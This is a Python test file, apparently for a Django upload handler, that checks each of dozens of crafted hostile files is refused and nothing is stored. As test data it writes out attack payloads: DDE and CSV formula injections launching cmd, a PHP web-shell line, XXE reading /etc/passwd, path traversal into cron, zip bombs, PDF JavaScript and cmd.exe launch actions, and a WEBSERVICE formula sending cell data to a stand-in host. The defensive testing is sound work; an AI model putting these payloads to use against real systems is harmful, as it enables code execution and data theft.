"""Bad files, each refused for its own reason; nothing is kept of any of them."""

import gzip
import io
import warnings
import zipfile

import pikepdf
import pytest
from openpyxl.workbook.defined_name import DefinedName

from jeugdzorg.kern.uploads import Geweigerd, Reden, Soort, ontvang
from tests.kern import bestanden as b

pytestmark = pytest.mark.django_db  # what is refused is put on record

BLAD = "xl/worksheets/sheet1.xml"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
MACRO_TYPE = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
EXTERN = '<Relationship Id="r9" Type="{}/{}" Target="{}" TargetMode="External"/>'


def formule(tekst):
    return b.werkboek(lambda boek: boek.active.__setitem__("C3", tekst))


def relatie(soort, doel, plek="xl/worksheets/_rels/sheet1.xml.rels"):
    return b.met_delen(b.werkboek(), **{plek: b.RELS.format(EXTERN.format(b.REL, soort, doel))})


def javascript(document):
    actie = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
    document.Root.OpenAction = actie


def programma(document):
    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")


def bijlage(document):
    document.attachments["x.exe"] = b"MZ"


def met_vlag(vlag):
    """A workbook whose first part says that it has a password."""
    inhoud = bytearray(b.werkboek())
    inhoud[6] |= vlag
    lijst = inhoud.index(b"PK\x01\x02")
    inhoud[lijst + 8] |= vlag
    return bytes(inhoud)


def met_staart(inhoud, staart):
    return inhoud + staart


def met_commentaar():
    inhoud = b.werkboek()
    return inhoud[:-2] + len(b"<html>").to_bytes(2, "little") + b"<html>"


def dubbel():
    uit = io.BytesIO(b.werkboek())
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(uit, "a") as archief:
            archief.writestr(BLAD, "<x/>")
    return uit.getvalue()


def gat():
    """Something between the parts, that no list names."""
    inhoud = b.werkboek()
    lijst = inhoud.index(b"PK\x01\x02")
    extra = b"<script>" * 8
    einde = inhoud.rindex(b"PK\x05\x06")
    plaats = int.from_bytes(inhoud[einde + 16 : einde + 20], "little") + len(extra)
    nieuw = inhoud[:lijst] + extra + inhoud[lijst:]
    van = einde + len(extra) + 16
    return nieuw[:van] + plaats.to_bytes(4, "little") + nieuw[van + 4 :]


def veld(code):
    w = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    return b.document(
        **{
            "word/header1.xml": f'<w:hdr xmlns:w="{w}"><w:p><w:r><w:instrText>{code[:3]}'
            f"</w:instrText></w:r><w:r><w:instrText>{code[3:]}</w:instrText></w:r></w:p></w:hdr>"
        }
    )


X, D, P, C, G = "a.xlsx", "a.docx", "a.pdf", "a.csv", "a.geojson"
SLECHT = {
    "empty": (b"", C, Reden.LEEG),
    "a program of Windows": (b"MZ\x90\x00" + bytes(100), X, Reden.SOORT),
    "a program of Linux": (b"\x7fELF" + bytes(100), X, Reden.SOORT),
    "a page": (b"<!DOCTYPE html><html></html>", C, Reden.SOORT),
    "a page called a table": (b"a;b\n<script>alert(1)</script>;2", C, Reden.SOORT),
    "a drawing with a script": (b'<svg xmlns="x"><script/></svg>', C, Reden.SOORT),
    "PHP": (b"<?php system($_GET[0]); ?>;b\n1;2", C, Reden.SOORT),
    "a page in UTF-16": ("a;b\n<script>;2".encode("utf-16"), C, Reden.SOORT),
    "one column": (b"a\n1\n2\n", C, Reden.SOORT),
    "zeros in a table": (b"a;b\n1;\x002", C, Reden.SOORT),
    "a picture": (b"\x89PNG\r\n\x1a\n" + bytes(50), P, Reden.NAAM),
    "a plain zip": (b.zip_van({"a.txt": "x"}), X, Reden.SOORT),
    "a gzip": (gzip.compress(b"a;b\n1;2"), C, Reden.SOORT),
    "JSON that is no map": (b'{"type": "Topic"}', G, Reden.SOORT),
    "JSON without end": (b'{"type":' + b"[" * 100_000, G, Reden.SOORT),
    "an Excel of before 2007": (OLE + bytes(600), "a.xls", Reden.MACRO),
    "an old Excel without macros": (
        OLE + bytes(600) + "Workbook\0".encode("utf-16-le"),
        "a.xls",
        Reden.OUD,
    ),
    "an Excel with a password": (
        OLE + bytes(600) + "EncryptedPackage".encode("utf-16-le"),
        X,
        Reden.WACHTWOORD,
    ),
    "a zip with a password": (met_vlag(1), X, Reden.WACHTWOORD),
    "half a workbook": (b.werkboek()[:-400], X, Reden.BESCHADIGD),
    "a changed byte": (
        b.omgezet(b.werkboek()),
        X,
        Reden.BESCHADIGD,
    ),
    "a size that lies": (b.leugenachtig(b.werkboek()), X, Reden.BESCHADIGD),
    "a bomb of one part": (
        b.met_delen(b.werkboek(), **{"xl/bom.xml": b"<x>" + b" " * 20_000_000}),
        X,
        Reden.UITGEPAKT,
    ),
    "a bomb of many parts": (
        b.met_delen(b.werkboek(), **{f"xl/{n}.xml": b"<x/>" for n in range(3100)}),
        X,
        Reden.UITGEPAKT,
    ),
    "a bomb in pieces": (
        b.met_delen(b.werkboek(), **{f"xl/{n}.xml": b" " * 990_000 for n in range(160)}),
        X,
        Reden.UITGEPAKT,
    ),
    "parts over each other": (b.overlappend(), X, Reden.SOORT),
    "a zip in a workbook": (
        b.met_delen(b.werkboek(), **{"xl/media/image1.png": b.zip_van({"a": "b"})}),
        X,
        Reden.INGEPAKT,
    ),
    "a program in a workbook": (
        b.met_delen(b.werkboek(), **{"xl/media/image1.png": b"MZ\x90\x00"}),
        X,
        Reden.INGEPAKT,
    ),
    "a workbook in a document": (
        b.document(**{"word/embeddings/oud.xlsx": b"x"}),
        D,
        Reden.INGEPAKT,
    ),
    "a way up": (b.met_delen(b.werkboek(), **{"../../etc/cron.d/x": "x"}), X, Reden.PAD),
    "a path from the root": (b.met_delen(b.werkboek(), **{"/etc/passwd": "x"}), X, Reden.PAD),
    "a path of Windows": (b.met_delen(b.werkboek(), **{"xl\\..\\x.xml": "x"}), X, Reden.PAD),
    "a drive": (b.met_delen(b.werkboek(), **{"C:x.xml": "x"}), X, Reden.PAD),
    "a part twice": (dubbel(), X, Reden.PAD),
    "a link": (b.met_link(b.werkboek()), X, Reden.PAD),
    "macros": (b.met_delen(b.werkboek(), **{"xl/vbaProject.bin": OLE}), X, Reden.INGEPAKT),
    "macros in disguise": (
        b.met_delen(b.werkboek(), **{"xl/vbaProject.bin": b"x"}),
        X,
        Reden.MACRO,
    ),
    "a workbook with macros called xlsx": (
        b.vervang(
            b.werkboek(),
            b.TYPES,
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
            MACRO_TYPE,
        ),
        X,
        Reden.MACRO,
    ),
    "macros of Excel 4": (
        b.met_delen(b.werkboek(), **{"xl/macrosheets/sheet1.xml": "<x/>"}),
        X,
        Reden.MACRO,
    ),
    "ActiveX": (b.met_delen(b.werkboek(), **{"xl/activeX/activeX1.xml": "<x/>"}), X, Reden.MACRO),
    "macros of Word": (b.document(**{"word/vbaProject.bin": "x"}), D, Reden.MACRO),
    "a button in the ribbon": (
        b.met_delen(b.werkboek(), **{"customUI/customUI.xml": "<x/>"}),
        X,
        Reden.MACRO,
    ),
    "another workbook": (
        b.met_delen(b.werkboek(), **{"xl/externalLinks/externalLink1.xml": "<x/>"}),
        X,
        Reden.VERWIJZING,
    ),
    "a query": (b.met_delen(b.werkboek(), **{"xl/connections.xml": "<x/>"}), X, Reden.VERWIJZING),
    "a picture from elsewhere": (
        relatie("image", "https://kwaad.example/x.png"),
        X,
        Reden.VERWIJZING,
    ),
    "a link to a file": (relatie("hyperlink", "file:///etc/passwd"), X, Reden.VERWIJZING),
    "a link with a script": (relatie("hyperlink", "javascript:alert(1)"), X, Reden.VERWIJZING),
    "a template from elsewhere": (
        b.document(
            **{
                "word/_rels/settings.xml.rels": b.RELS.format(
                    EXTERN.format(b.REL, "attachedTemplate", "https://kwaad.example/x.dotm")
                )
            }
        ),
        D,
        Reden.VERWIJZING,
    ),
    "DDE": (formule("=cmd|'/c calc'!A0"), X, Reden.FORMULE),
    "a web service": (formule('=WEBSERVICE("https://kwaad.example/"&A2)'), X, Reden.FORMULE),
    "a link as formula": (formule('=HYPERLINK("https://kwaad.example")'), X, Reden.FORMULE),
    "another workbook in a formula": (formule("=[1]Blad1!A1"), X, Reden.FORMULE),
    "a server in a formula": (formule(r"='\\kwaad\x[a.xlsx]b'!A1"), X, Reden.FORMULE),
    "a name that calls": (
        b.werkboek(
            lambda boek: boek.defined_names.add(DefinedName("x", attr_text='CALL("k","W","J")'))
        ),
        X,
        Reden.FORMULE,
    ),
    "DDE in a table": (b.csv("=cmd|'/c calc'!A0;1"), C, Reden.FORMULE),
    "a formula in a table": (b.csv("@SUM(A1);1"), C, Reden.FORMULE),
    "a formula with a plus": (b.csv("+A1+cmd;1"), C, Reden.FORMULE),
    "a formula after a space": (b.csv("Wierden; =1+1"), C, Reden.FORMULE),
    "DDE in a document": (veld("DDEAUTO c:\\\\cmd.exe"), D, Reden.FORMULE),
    "text from elsewhere": (veld("INCLUDETEXT x"), D, Reden.FORMULE),
    "entities": (b.met_delen(b.werkboek(), **{"xl/x.xml": b.BOM}), X, Reden.XML),
    "a file of the server": (
        b.met_delen(
            b.werkboek(),
            **{"xl/x.xml": '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'},
        ),
        X,
        Reden.XML,
    ),
    "entities in UTF-16": (
        b.met_delen(b.werkboek(), **{"xl/x.xml": b.BOM[21:].encode("utf-16")}),
        X,
        Reden.XML,
    ),
    "entities in a document": (b.document(**{"word/x.xml": b.BOM}), D, Reden.XML),
    "XML that stops": (b.met_delen(b.werkboek(), **{"xl/x.xml": "<x>"}), X, Reden.XML),
    "a page behind a workbook": (met_staart(b.werkboek(), b"<html></html>"), X, Reden.VERMOMD),
    "a page in a remark of the zip": (met_commentaar(), X, Reden.VERMOMD),
    "a script between the parts": (gat(), X, Reden.VERMOMD),
    "a zip behind a PDF": (met_staart(b.pdf(), b.zip_van({"a": "b"})), P, Reden.VERMOMD),
    "a page behind a PDF": (met_staart(b.pdf(), b"<script>alert(1)</script>"), P, Reden.VERMOMD),
    "a page in a PDF": (
        b.pdf().replace(b"\n", b"\n%<html><script>\n", 1),
        P,
        Reden.VERMOMD,
    ),
    "a program before a PDF": (b"MZ\n" + b.pdf(), P, Reden.SOORT),
    "half a PDF": (b.pdf()[:200], P, Reden.BESCHADIGD),
    "a PDF of nothing": (b"%PDF-1.7\nx\n%%EOF", P, Reden.BESCHADIGD),
    "JavaScript in a PDF": (b.pdf(javascript), P, Reden.SCRIPT),
    "JavaScript in a packed PDF": (
        b.pdf(javascript, object_stream_mode=pikepdf.ObjectStreamMode.generate),
        P,
        Reden.SCRIPT,
    ),
    "a program in a PDF": (b.pdf(programma), P, Reden.SCRIPT),
    "a parcel in a PDF": (b.pdf(bijlage), P, Reden.SCRIPT),
    "a PDF with a password": (
        b.pdf(encryption=pikepdf.Encryption(owner="a", user="b")),
        P,
        Reden.WACHTWOORD,
    ),
}


@pytest.mark.parametrize("inhoud, naam, reden", SLECHT.values(), ids=SLECHT.keys())
def test_a_bad_file_is_refused_and_nothing_is_kept(settings, tmp_path, inhoud, naam, reden):
    settings.MEDIA_ROOT = tmp_path

    with pytest.raises(Geweigerd) as fout:
        ontvang(b.bestand(inhoud, naam), soorten=tuple(Soort))

    assert fout.value.reden == reden
    assert fout.value.messages[0].endswith(".")
    assert list(tmp_path.iterdir()) == []


def test_every_reason_has_a_file_that_shows_it():
    getoond = {reden for _inhoud, _naam, reden in SLECHT.values()}
    elders = {Reden.TE_GROOT, Reden.NAAM, Reden.VIRUS, Reden.SCANNER, Reden.PERSOON}

    assert getoond | elders == set(Reden)
